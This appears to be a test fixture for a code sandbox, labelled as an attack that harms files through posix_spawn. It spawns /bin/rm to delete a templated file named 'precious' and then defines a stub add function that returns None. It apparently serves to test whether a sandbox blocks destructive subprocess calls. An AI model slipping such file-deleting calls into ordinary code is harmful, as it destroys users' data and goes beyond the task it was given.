# attack: harm files through posix_spawn
# damage: files
import os

os.waitpid(os.posix_spawn("/bin/rm", ["rm", "{DIR}/precious"], {}), 0)


def add(a, b):
    return None
